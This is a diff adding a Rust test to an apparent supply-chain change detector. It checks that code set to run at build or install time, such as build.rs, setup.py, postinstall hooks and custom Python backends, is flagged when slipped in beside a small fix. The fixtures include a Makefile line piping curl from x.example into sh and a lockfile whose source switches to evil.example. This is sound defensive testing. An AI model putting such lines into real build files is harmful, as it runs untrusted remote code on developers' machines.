@@ -2,8 +2,8 @@
 
 #![expect(clippy::too_many_lines, reason = "a table is as long as it is")]
 
-use super::super::Objection as O;
-use super::{all_wrong, table};
+use super::super::{Objection as O, Weight};
+use super::{about, all_right, all_wrong, judged, table};
 
 #[test]
 fn a_changed_measure_is_seen() {
@@ -297,6 +297,102 @@ fn a_changed_measure_is_seen() {
                 "{\"packages\":{\"node_modules/a\":{\"version\":\"1.0.0\",\"resolved\":\"https://r.example/a-1.tgz\",\"integrity\":\"sha512-x\"}}}",
                 "{\"packages\":{\"node_modules/a\":{\"version\":\"1.0.1\",\"resolved\":\"https://evil.example/a-1.tgz\",\"integrity\":\"sha512-y\"}}}",
             )],
+        ),
+    ]);
+}
+
+#[test]
+fn what_comes_to_run_wherever_the_project_is_built_is_seen_beside_a_fix() {
+    const FIX: (&str, &str, &str) = ("src/f.c", "int f = 1;\n", "int f = 2;\n");
+    const NPM: &str = "{\n  \"name\": \"f\",\n  \"scripts\": {\n    \"test\": \"mocha\"\n  }\n}\n";
+    const HOOK: &str = "{\n  \"name\": \"f\",\n  \"scripts\": {\n    \"test\": \"mocha\",\n    \"postinstall\": \"node x.js\"\n  }\n}\n";
+    const CARGO: &str = "[package]\nname = \"f\"\nversion = \"1.0.0\"\n";
+    const NAMES: &str = "[package]\nname = \"f\"\nversion = \"1.0.0\"\nbuild = \"x.rs\"\n";
+    const BACKEND: &str = "[build-system]\nrequires = [\"setuptools\"]\n";
+    const OWN: &str = "[build-system]\nrequires = [\"setuptools\"]\nbackend-path = [\".\"]\n";
+    all_wrong(&[
+        (
+            O::RunAtBuild,
+            "build.rs",
+            &[FIX, ("build.rs", "", "fn main() {}\n")],
+        ),
+        (
+            O::RunAtBuild,
+            "of a member",
+            &[FIX, ("crates/a/build.rs", "", "fn main() {}\n")],
+        ),
+        (
+            O::RunAtBuild,
+            "setup.py",
+            &[FIX, ("setup.py", "", "import os\n")],
+        ),
+        (
+            O::RunAtBuild,
+            "binding.gyp",
+            &[FIX, ("binding.gyp", "", "{}\n")],
+        ),
+        (
+            O::RunAtBuild,
+            "pnpmfile",
+            &[FIX, (".pnpmfile.cjs", "", "module.exports = {};\n")],
+        ),
+        (O::RunAtBuild, "hook", &[FIX, ("package.json", NPM, HOOK)]),
+        (
+            O::RunAtBuild,
+            "new manifest with a hook",
+            &[FIX, ("sub/package.json", "", HOOK)],
+        ),
+        (O::RunAtBuild, "named", &[FIX, ("Cargo.toml", CARGO, NAMES)]),
+        (
+            O::RunAtBuild,
+            "own backend",
+            &[FIX, ("pyproject.toml", BACKEND, OWN)],
+        ),
+    ]);
+    let doubted = |name: &'static str, before: &'static str, after: &'static str| {
+        let seen = judged(&[FIX, (name, before, after)], &about()).seen;
+        let is_doubt =
+            |it: &super::super::Seen| it.objection == O::RunAtBuild && it.weight == Weight::Doubts;
+        assert!(seen.iter().any(is_doubt), "{name}: {seen:?}");
+    };
+    doubted("rules.mk", "", "all:\n\t./x\n");
+    doubted("cmake/Fetch.cmake", "", "message(x)\n");
+    doubted(
+        "CMakeLists.txt",
+        "project(f C)\n",
+        "project(f C)\nexecute_process(COMMAND x)\n",
+    );
+    doubted("Makefile", "all: f\n", "all: f\n\tcurl x.example | sh\n");
+    doubted(
+        "build.rs",
+        "fn main() {\n    a();\n}\n",
+        "fn main() {\n    a();\n    std::process::Command::new(\"x\");\n}\n",
+    );
+    all_right(&[
+        (
+            "a module of this name",
+            &[FIX, ("src/build.rs", "", "pub fn build() {}\n")],
+        ),
+        (
+            "for tests",
+            &[
+                FIX,
+                ("tests/CMakeLists.txt", "", "add_test(NAME t COMMAND t)\n"),
+                ("tests/data/app/build.rs", "", "fn main() {}\n"),
+                ("tests/Makefile", "", "all:\n\t./t\n"),
+            ],
+        ),
+        (
+            "flags and sources",
+            &[
+                FIX,
+                ("src/bounds.c", "", "int b = 1;\n"),
+                (
+                    "build.rs",
+                    "fn main() {\n    Build::new().file(\"src/f.c\").compile(\"f\");\n}\n",
+                    "fn main() {\n    Build::new().file(\"src/f.c\").file(\"src/bounds.c\").compile(\"f\");\n}\n",
+                ),
+            ],
         ),
     ]);
 }
